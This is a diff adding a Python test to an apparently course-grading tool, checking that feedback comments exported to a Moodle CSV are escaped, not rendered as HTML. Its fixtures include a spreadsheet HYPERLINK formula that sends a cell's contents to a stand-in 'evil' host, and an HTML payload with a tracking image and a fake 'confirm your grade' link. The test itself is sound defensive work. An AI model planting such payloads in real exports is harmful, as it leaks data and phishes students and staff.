@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import html
 import unicodedata
 from dataclasses import replace
 from pathlib import Path
@@ -14,8 +15,9 @@ from tfprep.grader import Record, read_submission
 from tfprep.grader.ledger import Ledger
 from tfprep.reports.cohort.exports import write_exports
 
+from ..reports.test_moodle_export import WORKSHEET, with_worksheet
 from .attacked_grader import Grader, assert_invalid, assert_scored
-from .test_reports import model_named
+from .test_reports import Page, model_named
 
 HOSTILE = {
     "a formula": '=HYPERLINK("http://evil/?"&A1;"click")',
@@ -88,3 +90,23 @@ def is_number(cell: str) -> bool:
     except ValueError:
         return False
     return True
+
+
+def test_what_moodle_takes_back_as_html_is_text(tmp_path: Path) -> None:
+    """A worksheet's comment is HTML to Moodle: a picture in it would tell its author who looks, and when."""
+    cohort = with_worksheet(tmp_path, WORKSHEET.replace("=well done", ""))
+    one = cohort.learners[0]
+    hostile = "Layer '<img src=//evil/x.png>' & <a href=//evil>confirm your grade</a> is a Lambda."
+    results = []
+    for each in one.results:
+        assert each.counted is not None
+        card = replace(each.counted.card, reason=hostile)
+        results.append(replace(each, counted=replace(each.counted, card=card)))
+    cohort = replace(cohort, learners=(replace(one, results=tuple(results)), *cohort.learners[1:]))
+    write_exports(cohort, tmp_path / "out", "2")
+    mallory, grace = csv.DictReader(
+        (tmp_path / "out" / "moodle-worksheet.csv").read_text("utf-8").splitlines()
+    )
+    assert not Page(mallory["Feedback comments"]).elements
+    assert html.unescape(mallory["Feedback comments"]).startswith(hostile)
+    assert "Handed in late: 20% less." in grace["Feedback comments"]
